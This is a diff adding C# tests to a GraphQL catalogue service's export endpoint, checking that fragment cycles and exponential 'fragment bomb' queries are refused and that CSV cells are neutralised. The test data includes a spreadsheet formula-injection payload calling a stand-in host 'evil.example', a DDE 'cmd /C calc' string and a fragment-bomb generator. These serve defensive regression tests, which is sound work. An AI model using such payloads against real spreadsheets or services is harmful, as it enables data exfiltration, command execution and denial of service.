@@ -1,5 +1,12 @@
 using System.Net;
+using System.Security.Claims;
 using System.Text.Json.Nodes;
+using Graph.Api.Export;
+using Graph.Api.Schema.Execution;
+using Graph.Api.Schema.Types;
+using Graph.Catalog;
+using GraphQLParser.Visitors;
+using Microsoft.Extensions.DependencyInjection;
 using Parquet;
 
 namespace Graph.Api.Tests.Export;
@@ -8,6 +15,8 @@ namespace Graph.Api.Tests.Export;
 [Collection(CatalogueCollection.Name)]
 public sealed class ExportTests(CatalogueFactory service)
 {
+    private CatalogSchema Schema => service.Services.GetRequiredService<CatalogExecutor>().Schema;
+
     private const string SeriesDocument = """
         query Series($modality: String) {
           series(where: { modality: { eq: $modality } }) {
@@ -64,7 +73,7 @@ public sealed class ExportTests(CatalogueFactory service)
     public async Task Parquet_TypedColumns_AgreeWithGraphQL()
     {
         using var client = service.CreateClient();
-        var bytes = await client.GetByteArrayAsync(new Uri(Url(SeriesDocument, "series", "parquet") + "&pageSize=50", UriKind.Relative));
+        var bytes = await client.GetByteArrayAsync(new Uri(Url(SeriesDocument, "series", "parquet") + "&pageSize=100", UriKind.Relative));
         using var stream = new MemoryStream(bytes);
         await using var reader = await ParquetReader.CreateAsync(stream);
         var fields = reader.Schema.GetDataFields().ToDictionary(f => f.Name, f => f.ClrType);
@@ -131,6 +140,7 @@ public sealed class ExportTests(CatalogueFactory service)
     [InlineData("{ series(last: 5) { nodes { modality } } }", "series", "csv", "'last'")]
     [InlineData("{ series { totalCount } }", "series", "csv", "nodes")]
     [InlineData("{ series { nodes { modality } } }", "series", "csv&pageSize=0", "'pageSize'")]
+    [InlineData("{ series { nodes { modality } } }", "series", "csv&pageSize=99", "from 100 to 1000")]
     public async Task BadRequest_400WithCodeAndReason(string document, string path, string format, string reason)
     {
         using var client = service.CreateClient();
@@ -150,6 +160,175 @@ public sealed class ExportTests(CatalogueFactory service)
         var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
         Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
         Assert.Contains("noSuchField", (string)body["errors"]![0]!["message"]!, StringComparison.Ordinal);
+    }
+
+    /// <summary>Review, critical: a fragment spreading itself sent to /export by an anonymous caller killed the process (the plan
+    /// expanded fragments before validation, without end). It is refused by validation, as /graphql refuses it, naming the fragment.</summary>
+    [Fact]
+    public async Task FragmentCycle_Anonymous_400NamingTheFragment()
+    {
+        using var anonymous = service.CreateAnonymousClient();
+        using var response = await anonymous.GetAsync(new Uri(Url("{ series { nodes { ...F } } } fragment F on Series { seriesInstanceUid ...F }", "series", "csv"), UriKind.Relative));
+        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
+        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+        Assert.Contains("'F' within itself", (string?)body["errors"]?[0]?["message"], StringComparison.Ordinal);
+        Assert.Equal("NO_FRAGMENT_CYCLES", (string?)body["errors"]?[0]?["extensions"]?["code"]);
+    }
+
+    /// <summary>The plan refuses a fragment cycle itself (directly or through other fragments), naming it, rather than recursing.</summary>
+    [Theory]
+    [InlineData("{ series { nodes { ...F } } } fragment F on Series { seriesInstanceUid ...F }", "F -> F")]
+    [InlineData("{ series { nodes { ...F } } } fragment F on Series { modality ...G } fragment G on Series { ... on Series { ...F } }", "F -> G -> F")]
+    public void Plan_FragmentCycle_RefusedNamingTheCycle(string document, string cycle)
+    {
+        var (parsed, operation) = ExportPlan.Parse(document, null);
+        var refused = Assert.Throws<ExportException>(() => ExportPlan.Create(parsed, operation, "series", Schema));
+        Assert.Contains(cycle, refused.Message, StringComparison.Ordinal);
+    }
+
+    /// <summary>Review, high: fragments each spreading the next twice (23 levels, 999 bytes) took 12.7 s of /export's CPU, which
+    /// /graphql refuses at once. /export refuses them with the same limit before anything expands them.</summary>
+    [Fact]
+    public async Task FragmentBomb_Anonymous_400QueryTooComplex()
+    {
+        using var anonymous = service.CreateAnonymousClient();
+        using var response = await anonymous.GetAsync(new Uri(Url(FragmentBomb(16), "series", "csv"), UriKind.Relative));
+        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
+        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+        Assert.Equal("QUERY_TOO_COMPLEX", (string?)body["errors"]?[0]?["extensions"]?["code"]);
+        Assert.Contains("MaxExpandedFields", (string?)body["errors"]?[0]?["message"], StringComparison.Ordinal);
+    }
+
+    /// <summary>Every page an export runs passes the expanded-fields limit that every GraphQL request passes.</summary>
+    [Fact]
+    public async Task ExecutePage_FragmentBomb_RefusedByTheExpandedFieldsLimit()
+    {
+        var executor = service.Services.GetRequiredService<CatalogExecutor>();
+        var snapshot = service.Services.GetRequiredService<CatalogIndex>().Current;
+        var page = await executor.ExecutePageAsync(GraphQLParser.Parser.Parse(FragmentBomb(16)), null, snapshot, new ClaimsPrincipal(), service.Services, CancellationToken.None);
+        Assert.Equal("QUERY_TOO_COMPLEX", page.Errors?.FirstOrDefault()?.Code);
+    }
+
+    /// <summary>The plan expands a fragment once in each place, so a fragment bomb costs it what its text costs, not 2^n.</summary>
+    [Fact]
+    public async Task Plan_FragmentBomb_ExpandsEachFragmentOncePerPlace()
+    {
+        var (parsed, operation) = ExportPlan.Parse(FragmentBomb(40), null);
+        var plan = await Task.Run(() => ExportPlan.Create(parsed, operation, "series", Schema)).WaitAsync(TimeSpan.FromSeconds(10));
+        Assert.Equal("seriesInstanceUid", Assert.Single(plan.Columns).Name);
+    }
+
+    /// <summary>Review, medium: every page ran the whole document again (a crossTab beside the connection ran once a page, its
+    /// answer thrown away). A page runs the path to the connection and its rows only, with the fragments and variables they use.</summary>
+    [Fact]
+    public async Task Plan_SiblingFields_LeftOutOfEveryPage()
+    {
+        const string Document = """
+            query Q($key: String!, $sex: String, $age: Int) {
+              x: crossTab(rows: "series.manufacturer", columns: "series.bodyPart", where: { patients: { ageAtDiagnosis: { gte: $age } } }) { otherRows { text } }
+              cohorts { nodes { ...C } }
+              datasetByKey(key: $key) { slug patients(where: { sex: { eq: $sex } }) { totalCount nodes { ...P } } }
+            }
+            fragment C on Cohort { name }
+            fragment P on Patient { pseudonym }
+            query Other { cohorts { totalCount } }
+            """;
+        var (parsed, operation) = ExportPlan.Parse(Document, "Q");
+        var plan = ExportPlan.Create(parsed, operation, "datasetByKey.patients", Schema);
+        plan.SetPage(100, null);
+        var page = new SDLPrinter().Print(plan.Document);
+        Assert.DoesNotContain("crossTab", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("cohorts", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("totalCount", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("slug", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("$age", page, StringComparison.Ordinal);
+        Assert.DoesNotContain("Other", page, StringComparison.Ordinal);
+        Assert.Contains("fragment P", page, StringComparison.Ordinal);
+        Assert.Contains("$sex: String", page, StringComparison.Ordinal);
+
+        var executor = service.Services.GetRequiredService<CatalogExecutor>();
+        var snapshot = service.Services.GetRequiredService<CatalogIndex>().Current;
+        var result = await executor.ExecutePageAsync(plan.Document, new GraphQL.Inputs(new Dictionary<string, object?> { ["key"] = "none", ["sex"] = "F", ["age"] = 1 }), snapshot, new ClaimsPrincipal(), service.Services, CancellationToken.None);
+        Assert.Null(result.Errors);
+    }
+
+    /// <summary>A document with fields beside the exported connection, fragments and variables they alone use, is exported whole.</summary>
+    [Fact]
+    public async Task SiblingFields_ExportedRowsAsWithout()
+    {
+        using var client = service.CreateClient();
+        const string Document = """
+            query($modality: String, $age: Int) {
+              x: crossTab(rows: "series.manufacturer", columns: "series.bodyPart", where: { patients: { ageAtDiagnosis: { gte: $age } } }) { otherRows { text } }
+              cohorts { nodes { ...C } }
+              series(where: { modality: { eq: $modality } }) { totalCount nodes { seriesInstanceUid } }
+            }
+            fragment C on Cohort { name }
+            """;
+        var text = await client.GetStringAsync(new Uri(Url(Document, "series", "csv", """{"modality":"MR","age":1}""") + "&pageSize=100", UriKind.Relative));
+        var rows = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Order(StringComparer.Ordinal);
+        Assert.Equal((await AllSeriesAsync(client, "MR")).Keys.Order(StringComparer.Ordinal), rows);
+    }
+
+    /// <summary>Review, medium: a cohort named as a spreadsheet formula was written as it is into CSV exports, where opening the
+    /// file runs it. CSV neutralises text cells (a leading ' inside quotes, as OWASP advises); JSON Lines keep the text as it is.</summary>
+    [Fact]
+    public async Task Csv_CohortNamedAsFormula_Neutralised()
+    {
+        const string Name = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+        const string Description = "@SUM(1+1)*cmd|' /C calc'!A0";
+        await service.DataAsync("""
+            mutation($name: String!, $description: String) { saveCohort(input: { name: $name, description: $description, criteria: { patients: { sex: { eq: "F" } } } }) { cohortId } }
+            """, new { name = Name, description = Description });
+        using var client = service.CreateClient();
+        var document = "{ cohorts { nodes { name description } } }";
+        var csv = await client.GetStringAsync(new Uri(Url(document, "cohorts", "csv"), UriKind.Relative));
+        Assert.Contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n", csv, StringComparison.Ordinal);
+        var jsonl = await client.GetStringAsync(new Uri(Url(document, "cohorts", "jsonl"), UriKind.Relative));
+        Assert.Contains(jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => (string?)JsonNode.Parse(l)!["name"] == Name && (string?)JsonNode.Parse(l)!["description"] == Description);
+    }
+
+    /// <summary>Text that a spreadsheet would run is neutralised in every CSV the service writes (exports and cohort manifests);
+    /// numbers stay numbers, negative ones too.</summary>
+    [Theory]
+    [InlineData("=1+1", "\"'=1+1\"")]
+    [InlineData("+1", "\"'+1\"")]
+    [InlineData("-5", "\"'-5\"")]
+    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
+    [InlineData("\tx", "\"'\tx\"")]
+    [InlineData("\rx", "\"'\rx\"")]
+    [InlineData("a,b", "\"a,b\"")]
+    [InlineData("a=b", "a=b")]
+    [InlineData(-5, "-5")]
+    [InlineData(-1.5, "-1.5")]
+    [InlineData(true, "true")]
+    [InlineData(null, "")]
+    public void CsvCell_FormulaText_NeutralisedNumbersKept(object? value, string cell) => Assert.Equal(cell, CsvText.Cell(value));
+
+    /// <summary>The export's CSV writer writes negative numbers as numbers and neutralises text that looks like one.</summary>
+    [Fact]
+    public async Task CsvWriter_NegativeNumberAndFormulaText_NumberKeptTextNeutralised()
+    {
+        using var output = new MemoryStream();
+        var writer = new CsvExportWriter([new ExportColumn("n", ExportColumnType.Int, false), new ExportColumn("d", ExportColumnType.Float, false), new ExportColumn("s", ExportColumnType.String, false)], output);
+        await writer.BeginAsync(CancellationToken.None);
+        writer.Write([-5, -0.5, "-5"]);
+        await writer.CompleteAsync(CancellationToken.None);
+        Assert.Equal("n,d,s\r\n-5,-0.5,\"'-5\"\r\n", System.Text.Encoding.UTF8.GetString(output.ToArray()));
+    }
+
+    /// <summary>Review, medium: the audit named the exported path by its response names, which the caller chooses
+    /// (<c>cancerTypes: patients</c> was audited as "cancerTypes"). It names the schema fields, as GraphQL reads are audited.</summary>
+    [Fact]
+    public async Task Audit_AliasedPath_NamesTheSchemaFields()
+    {
+        using var client = service.CreateClient();
+        var url = Url("query AliasedExport { catalogue: datasetByKey(key: \"none\") { cancerTypes: patients { nodes { pseudonym } } } }", "catalogue.cancerTypes", "csv") + "&operationName=AliasedExport";
+        using var response = await client.GetAsync(new Uri(url, UriKind.Relative));
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        var entry = File.ReadAllLines(Path.Combine(service.DataDirectory, "audit.log")).Select(l => JsonNode.Parse(l)!)
+            .Last(e => (string?)e["action"] == "export" && (string?)e["operation"] == "AliasedExport");
+        Assert.Equal(["datasetByKey", "patients"], entry["fields"]!.AsArray().Select(f => (string)f!));
     }
 
     private static async Task<Dictionary<string, JsonNode>> AllSeriesAsync(HttpClient client, string? modality)
@@ -174,6 +353,12 @@ public sealed class ExportTests(CatalogueFactory service)
         while (after is not null);
         return all;
     }
+
+    // Fragments F0 .. F(n-1) each spread the next twice: 2^n fields once expanded, in a few bytes per level.
+    private static string FragmentBomb(int levels) =>
+        "{ series(first: 1) { nodes { ...F0 } } } "
+        + string.Concat(Enumerable.Range(0, levels).Select(i => $"fragment F{i} on Series {{ ...F{i + 1} ...F{i + 1} }} "))
+        + $"fragment F{levels} on Series {{ seriesInstanceUid }}";
 
     private static async Task<int> TotalAsync(HttpClient client, string query)
     {
